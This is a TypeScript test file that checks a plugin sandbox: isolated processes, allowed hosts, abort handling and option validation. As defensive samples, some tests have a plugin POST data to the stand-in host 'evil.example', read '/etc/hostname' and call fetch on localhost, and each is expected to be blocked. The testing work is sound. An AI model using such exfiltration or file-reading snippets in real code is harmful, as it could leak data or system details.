/** A command that runs confined: each run in a process of its own, which sees books and hosts that it may, and ends when it shall. */
import { expect, test, vi } from 'vitest';
import type { CommandContext } from '../../src/sdk/command.ts';
import { runCommandWith } from '../../src/testing/command.ts';
import { PATIENCE_MS } from '../patience.ts';
import { load, pluginFolder } from './samples.ts';

const MANIFEST = { kind: 'command', id: 'try' };
const book = (id: number) => ({ id, library: 'books', path: `Ann Cole/${id}`, values: { title: `Salt ${id}` } });

/** A plugin with a command of which this is the body. @param isTrusted true to run it as a part of the program */
function commandThat(body: string, { shape = '{}', isTrusted = false, more = '' } = {}) {
  const code = `import { defineCommand, definePlugin, z } from 'rubricator/sdk';
    export const plugin = definePlugin({ commands: [defineCommand({
      id: 'try', summary: 'tries', options: z.strictObject(${shape}), ${more}
      async *run(options, { books, send }) { ${body} },
    })] });`;
  const folder = pluginFolder({ ...MANIFEST, permissions: { hosts: ['api.example.org'] } }, code);
  const { states, definitions } = load([folder], { trusted: isTrusted ? [folder] : [] });
  const [command] = definitions.commands;
  if (!command) throw new Error(states.map(({ problem }) => problem).join());
  return command;
}

const context = (more: Partial<CommandContext> = {}): CommandContext => ({
  send: async () => ({ status: 200, body: 'sent' }),
  signal: new AbortController().signal,
  async *books() {},
  ...more,
});

test.each([false, true])('it reads all books, says lines and returns a value; trusted: %s', async (isTrusted) => {
  const command = commandThat(
    `let count = 0;
     for await (const { path, values } of books()) { count++; if (count % 100 === 0) yield path + ', ' + values.title; }
     return { count, title: options.title };`,
    { isTrusted, shape: '{ title: z.string().default("none") }' },
  );
  const books = Array.from({ length: 450 }, (_, at) => book(at + 1));
  expect(await runCommandWith({ command, options: {}, books })).toEqual({
    lines: [100, 200, 300, 400].map((id) => `Ann Cole/${id}, Salt ${id}`),
    result: { count: 450, title: 'none' },
  });
});

test('requests go where the manifest or whoever runs it says, and nowhere else', async () => {
  const command = commandThat('yield (await send("POST", options.url ?? "https://evil.example/", { body: "x" })).body', {
    shape: '{ url: z.string().optional() }',
  });
  const asked: string[] = [];
  const send: CommandContext['send'] = async (method, url, { body }) => {
    asked.push(`${method} ${url} ${body}`);
    return { status: 200, body: 'taken' };
  };
  for (const url of ['https://api.example.org/x', 'http://192.168.0.7/x'])
    expect((await runCommandWith({ command, options: { url }, send })).lines).toEqual(['taken']);
  await expect(runCommandWith({ command, options: {}, send })).rejects.toThrow('may not reach evil.example');
  expect(asked).toEqual(['POST https://api.example.org/x x', 'POST http://192.168.0.7/x x']);
});

test.each<[what: string, body: string, said: RegExp]>([
  ['throws', 'throw new Error("boom")', /^failed inside the plugin \(boom\)$/],
  ['yields what no message can hold', 'yield () => 1', /^failed inside the plugin \(.*could not be cloned/],
  ['ends its process', 'process.exit(3)', /its process ended \(status 3\)$/],
  ['reads files', 'yield (await import("node:fs")).readFileSync("/etc/hostname", "utf8")', /^failed inside the plugin \(.*restricted/],
  ['reaches for the network by itself', 'yield await fetch("http://127.0.0.1")', /^failed inside the plugin \(TypeError: fetch is not/],
])('one that %s fails with a line that says so', async (_what, body, said) => {
  await expect(runCommandWith({ command: commandThat(body), options: {} })).rejects.toThrow(said);
});

test('one whose run is no generator is told so', async () => {
  const code = `import { z } from 'rubricator/sdk';
    export const plugin = { commands: [{ id: 'try', summary: '', options: z.strictObject({}), run: async () => 3 }] };`;
  const [odd] = load([pluginFolder(MANIFEST, code)]).definitions.commands;
  await expect(odd?.run({}, context()).next()).rejects.toThrow('run of try is no generator');
});

test('whoever waits no longer ends the process, whatever it does', async () => {
  const command = commandThat('yield String(process.pid); for (;;);');
  const ending = new AbortController();
  const running = command.run({}, context({ signal: ending.signal }));
  const { value: pid } = await running.next();
  const next = running.next();
  ending.abort();
  await expect(next).rejects.toThrow('nobody waits for that any more');
  await vi.waitFor(() => expect(() => process.kill(Number(pid), 0)).toThrow(), { timeout: PATIENCE_MS });
});

test('each run has a process of its own', async () => {
  const command = commandThat('globalThis.runs = (globalThis.runs ?? 0) + 1; yield String(globalThis.runs)');
  expect([await runCommandWith({ command, options: {} }), await runCommandWith({ command, options: {} })].map(({ lines }) => lines)).toEqual([['1'], ['1']]);
});

test.each([
  ['{ a: z.object({ b: z.string() }) }', '', /^try: its option a is none that can be typed/],
  ['{ json: z.boolean() }', '', /^try: no option of a command can be called json/],
  ['{ a: z.string() }', 'arguments: ["b"],', /^try: it has no option b, which it names as an argument/],
  ['{ a: z.array(z.string()), b: z.string() }', 'arguments: ["a", "b"],', /^try: only its last argument can be a list/],
])('options that nobody could type are refused: %s', (shape, more, problem) => {
  for (const isTrusted of [false, true]) expect(() => commandThat('', { shape, more, isTrusted })).toThrow(problem);
});
